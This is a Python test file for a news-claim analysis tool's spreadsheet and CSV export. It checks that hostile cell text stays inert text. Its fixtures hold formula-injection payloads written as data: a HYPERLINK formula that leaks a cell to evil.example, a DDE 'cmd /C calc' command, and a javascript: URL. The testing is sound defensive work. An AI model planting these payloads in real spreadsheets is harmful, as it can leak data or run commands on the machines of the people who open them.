"""Export: what we write, opened with openpyxl and with LibreOffice (headless), with hostile text."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from crosscount.core.export import export
from crosscount.core.model import Article
from crosscount.core.pipeline import analyze, analyze_articles
from crosscount.core.xlsx_rows import MAX_CELL_TEXT, Book

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")\n\n'
           "+SUM(1,2) officials said 1,200 soldiers were killed.\n\n"
           "@cmd|' /C calc'!A0 reported 3,400 soldiers wounded.\n\n"
           "-2+3 Russia lost at least 500 soldiers killed in May.\n")


@pytest.fixture
def hostile_article(tmp_path: Path) -> Path:
    p = tmp_path / "=evil.txt"
    p.write_text(HOSTILE, encoding="utf-8")
    return p


def test_workbook_has_sheets_numbers_dates_and_no_formulas(sample_path, hostile_article, tmp_path):
    out = tmp_path / "out.xlsx"
    export(analyze([str(sample_path), str(hostile_article)]), out)
    wb = openpyxl.load_workbook(out)
    assert {"Comparison", "Charts", "Claims", "Articles", "Rates"} <= set(wb.sheetnames)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
    claims = wb["Claims"]
    header = [c.value for c in claims[1]]
    low = header.index("low") + 1
    text_col = header.index("text") + 1
    rows = {claims.cell(r, text_col).value: claims.cell(r, low).value for r in range(2, claims.max_row + 1)}
    assert rows["450,000 rubles"] == 450000 and isinstance(rows["450,000 rubles"], int | float)
    titles = [c.value for c in wb["Articles"]["B"]]
    assert any(isinstance(t, str) and t.startswith("=HYPERLINK") for t in titles)
    assert wb["Comparison"].freeze_panes == "A2"
    assert wb["Charts"]._charts, "a native chart per group"
    rates = wb["Rates"]
    assert rates["A2"].value == "RUB" and rates["E2"].value == "NBP"
    assert rates["C2"].is_date and isinstance(rates["D2"].value, float)
    low_cell = next(claims.cell(r, low) for r in range(2, claims.max_row + 1)
                    if claims.cell(r, text_col).value == "450,000 rubles")
    assert low_cell.number_format == "#,##0.##"
    assert [c.value for c in wb["Comparison"][1]][:3] == ["Source", "Outlet", "Article"]
    columns = sum(1 for c in wb["Comparison"][1] if c.value)
    assert wb["Comparison"]["A1"].font.b and wb["Comparison"].auto_filter.ref.startswith(f"A1:{get_column_letter(columns)}")


def test_comparison_links_each_figure_to_its_article(tmp_path):
    arts = [Article(id="a1", text="Officials said 1,200 soldiers were killed in May.", title="Losses",
                    outlet="Example News", published="2023-06-02", url="https://news.example/a?x=1&y=2"),
            Article(id="a2", text="About 1,500 soldiers were killed in May, the ministry said.", title="More",
                    published="2023-06-03", url="javascript:alert(1)")]
    out = tmp_path / "links.xlsx"
    export(analyze_articles(arts), out)
    ws = openpyxl.load_workbook(out)["Comparison"]
    header = [c.value for c in ws[1]]
    link_col, article_col = header.index("Link") + 1, header.index("Article") + 1
    rows = {ws.cell(r, article_col).value: ws.cell(r, link_col) for r in range(2, ws.max_row + 1)
            if ws.cell(r, article_col).value}
    assert rows["Losses"].hyperlink.target == "https://news.example/a?x=1&y=2"
    assert rows["Losses"].value == "https://news.example/a?x=1&y=2"
    assert rows["More"].hyperlink is None and rows["More"].value is None  # only web links are links
    published = ws.cell(next(r for r in range(2, ws.max_row + 1) if ws.cell(r, article_col).value == "Losses"),
                        header.index("Published") + 1)
    assert published.value == datetime(2023, 6, 2) and published.number_format == "yyyy-mm-dd"


def test_links_past_excels_limit_stay_as_text(tmp_path, monkeypatch):
    from crosscount.core import xlsx_rows

    monkeypatch.setattr(xlsx_rows, "MAX_LINKS", 1)
    arts = [Article(id=f"a{i}", text=f"Officials said {i},200 soldiers were killed in May.", title=f"T{i}",
                    published="2023-06-02", url=f"https://news.example/{i}") for i in (1, 2)]
    out = tmp_path / "limit.xlsx"
    export(analyze_articles(arts), out)
    ws = openpyxl.load_workbook(out)["Comparison"]
    link_col = [c.value for c in ws[1]].index("Link") + 1
    cells = [ws.cell(r, link_col) for r in range(2, ws.max_row + 1) if ws.cell(r, link_col).value]
    assert [c.value for c in cells] == ["https://news.example/1", "https://news.example/2"]
    assert [c.hyperlink is not None for c in cells] == [True, False]


def test_rows_keep_their_types_and_hostile_text_stays_inert_text(tmp_path):
    book = Book()
    sheet = book.sheet("Data")
    number, day = book.style("#,##0.##"), book.style("yyyy-mm-dd")
    sheet.append(["text", "number", "date", "flag", "link"])
    sheet.append(["=1+1\x00\x07 <b>&amp;</b>\r\n" + "x" * 40_000, 1234.5, date(2023, 4, 1), True, "site"],
                 [0, number, day])
    sheet.link(4, 'https://news.example/a?x=1&y="2"')
    sheet.append([None, float("nan"), "", " padded ", "\ud800"])
    sheet.append(["@SUM(A1)", -5, None, False, "=cmd|' /C calc'!A0"])
    out = tmp_path / "rows.xlsx"
    with out.open("wb") as fh:
        book.save(fh)
    ws = openpyxl.load_workbook(out)["Data"]
    hostile = ws["A2"]
    assert hostile.data_type == "s" and hostile.value.startswith("=1+1 <b>&amp;</b>\r\nxxx")
    assert 32_000 < len(hostile.value) <= MAX_CELL_TEXT
    assert ws["B2"].value == 1234.5 and ws["B2"].number_format == "#,##0.##"
    assert ws["C2"].value == datetime(2023, 4, 1) and ws["C2"].is_date
    assert ws["D2"].value is True and ws["D4"].value is False
    assert ws["E2"].hyperlink.target == 'https://news.example/a?x=1&y="2"'
    assert [ws.cell(3, c).value for c in range(1, 6)] == [None, None, None, " padded ", ""]
    assert ws["A4"].value == "@SUM(A1)" and ws["B4"].value == -5
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_csv_export_neutralises_formulas(hostile_article, tmp_path):
    out = tmp_path / "out.csv"
    export(analyze([str(hostile_article)]), out)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    sentences = [r["sentence"] for r in rows]
    assert sentences and all(not s.startswith(("=", "+", "-", "@")) for s in sentences)
    assert any(s.startswith("'+SUM") for s in sentences)


def test_export_is_atomic_and_keeps_the_old_file_on_error(sample_path, tmp_path):
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"previous good file")
    with pytest.raises(ValueError):
        export(analyze([str(sample_path)]), tmp_path / "out.docx")
    assert out.read_bytes() == b"previous good file"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


@pytest.mark.libreoffice
def test_libreoffice_opens_the_workbook_and_evaluates_nothing(sample_path, hostile_article, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "make test installs libreoffice-calc-nogui"
    out = tmp_path / "out.xlsx"
    export(analyze([str(sample_path), str(hostile_article)]), out)
    profile = tmp_path / "lo-profile"
    res = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                          "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                          "--outdir", str(tmp_path / "lo"), str(out)],
                         capture_output=True, text=True, timeout=180)
    assert res.returncode == 0, res.stderr
    converted = sorted((tmp_path / "lo").glob("*.csv"))
    assert converted, res.stdout + res.stderr
    claims_csv = next((p for p in converted if "Claims" in p.name), None)
    assert claims_csv is not None, [p.name for p in converted]
    text = claims_csv.read_text(encoding="utf-8")
    assert "450,000 rubles" in text and "450000" in text
    assert "+SUM(1,2) officials" in text  # still the words, not 3
    articles_csv = next(p for p in converted if "Articles" in p.name)
    titles = [row[1] for row in csv.reader(articles_csv.read_text(encoding="utf-8").splitlines())]
    assert any(t.startswith('=HYPERLINK("http://evil.example/') for t in titles), titles


def test_csv_rows_say_the_language_each_claim_was_read_in_and_the_rules_that_made_it(tmp_path):
    article = Article(id="a1", text="По данным Минобороны России, погибли более 5 000 военных.\n\n"
                                    "The ministry said about 5,000 soldiers died.")
    out = tmp_path / "out.csv"
    export(analyze_articles([article]), out)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert [(r["text"], r["lang"]) for r in rows] == [("более 5 000", "ru"), ("about 5,000", "en")]
    assert "hedge_prefix" in rows[1]["rules"].split("; ")
